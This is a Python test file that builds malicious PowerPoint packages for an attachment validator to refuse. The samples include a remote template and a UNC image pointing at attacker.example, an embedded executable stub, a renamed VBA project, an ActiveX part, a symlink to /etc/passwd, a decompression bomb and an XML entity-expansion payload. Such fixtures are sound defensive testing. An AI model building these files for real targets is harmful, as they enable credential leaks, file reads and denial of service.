"""Hostile presentations built at run time: what only reading the package (OPC) shows."""

import io
import zipfile

from tests.attachments.corpus import CONTENT_TYPES, pptx_bytes

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MZ = b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode"


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part: (relationship type, target, target mode or "")."""
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{rows}</Relationships>'.encode()


def content_types_with(extra: str) -> bytes:
    return CONTENT_TYPES.replace(b"</Types>", extra.encode() + b"</Types>")


def remote_template() -> bytes:
    return pptx_bytes(
        {
            "ppt/_rels/presentation.xml.rels": rels(
                (f"{REL}/attachedTemplate", "https://attacker.example/t.potx", "External")
            )
        }
    )


def unc_image() -> bytes:
    return pptx_bytes(
        {
            "ppt/slides/_rels/slide1.xml.rels": rels(
                (f"{REL}/image", "file://///attacker.example/share/a.png", "External")
            )
        }
    )


def web_hyperlink() -> bytes:
    """An honest presentation with a web link on a slide: accepted."""
    return pptx_bytes(
        {
            "ppt/slides/_rels/slide1.xml.rels": rels(
                (f"{REL}/hyperlink", "https://www.up.ac.th/", "External")
            )
        }
    )


def ole_executable() -> bytes:
    return pptx_bytes(
        {
            "ppt/slides/_rels/slide1.xml.rels": rels(
                (f"{REL}/oleObject", "../embeddings/oleObject1.bin", "")
            ),
            "ppt/embeddings/oleObject1.bin": MZ,
        }
    )


def renamed_vba_project() -> bytes:
    """A VBA project stored as an innocent-looking picture name, declared by content type."""
    return pptx_bytes(
        {"ppt/media/image9.bin": CFB + b"\x00" * 64},
        content_types=content_types_with(
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
    )


def undeclared_compound_file() -> bytes:
    """An OLE compound file (what VBA projects and OLE objects are) under a media name."""
    return pptx_bytes({"ppt/media/image3.png": CFB + b"\x00" * 64})


def activex() -> bytes:
    return pptx_bytes(
        {"ppt/activeX/activeX1.xml": b"<ax:ocx/>"},
        content_types=content_types_with(
            '<Override PartName="/ppt/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/>'
        ),
    )


def embedded_package() -> bytes:
    return pptx_bytes(
        {
            "ppt/slides/_rels/slide1.xml.rels": rels(
                (f"{REL}/package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "")
            ),
            "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04not checked here",
        }
    )


def _with_entry(info: zipfile.ZipInfo, payload: bytes) -> bytes:
    out = io.BytesIO(pptx_bytes())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, payload)
    return out.getvalue()


def symlink_entry() -> bytes:
    info = zipfile.ZipInfo("ppt/media/image1.png")
    info.create_system = 3  # Unix
    info.external_attr = 0o120777 << 16
    return _with_entry(info, b"/etc/passwd")


def _patch(data: bytearray, name: bytes, local_at: int, central_at: int, value: bytes) -> None:
    """Overwrite a field of the local header and of the central directory entry of ``name``."""
    for signature, name_at, field_at in (
        (b"PK\x03\x04", 30, local_at),
        (b"PK\x01\x02", 46, central_at),
    ):
        header = data.index(signature)
        while data[header + name_at : header + name_at + len(name)] != name:
            header = data.index(signature, header + 4)
        data[header + field_at : header + field_at + len(value)] = value


def encrypted_entry() -> bytes:
    """A part flagged as encrypted (general purpose bit 0): its content cannot be checked."""
    data = bytearray(_with_entry(zipfile.ZipInfo("ppt/slides/slide2.xml"), b"<p:sld/>"))
    _patch(data, b"ppt/slides/slide2.xml", 6, 8, b"\x01\x00")
    return bytes(data)


def understated_size(real: int = 300 * 1024 * 1024, declared: int = 1024) -> bytes:
    """A part of ``real`` bytes of zeros whose headers say it unpacks to ``declared`` bytes."""
    out = io.BytesIO(pptx_bytes())
    block = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("ppt/media/image1.emf", "w") as handle,
    ):
        for _ in range(real // len(block)):
            handle.write(block)
    data = bytearray(out.getvalue())
    _patch(data, b"ppt/media/image1.emf", 22, 24, declared.to_bytes(4, "little"))
    return bytes(data)


def doctype_rels() -> bytes:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>'
    )
    return pptx_bytes({"_rels/.rels": bomb})


# (test id, builder, expected refusal code)
REFUSED = [
    ("pptx-remote-template", remote_template, "pptx_external_link"),
    ("pptx-unc-image", unc_image, "pptx_external_link"),
    ("pptx-ole-mz", ole_executable, "pptx_embedded_object"),
    ("pptx-vba-renamed", renamed_vba_project, "pptx_macros"),
    ("pptx-compound-file-as-png", undeclared_compound_file, "pptx_embedded_object"),
    ("pptx-activex", activex, "pptx_embedded_object"),
    ("pptx-embedded-package", embedded_package, "pptx_embedded_object"),
    ("pptx-symlink", symlink_entry, "pptx_symlink"),
    ("pptx-encrypted-entry", encrypted_entry, "pptx_encrypted"),
    ("pptx-300mb-declared-1kb", understated_size, "pptx_unpacked_too_large"),
    ("pptx-doctype-entities", doctype_rels, "pptx_broken"),
]
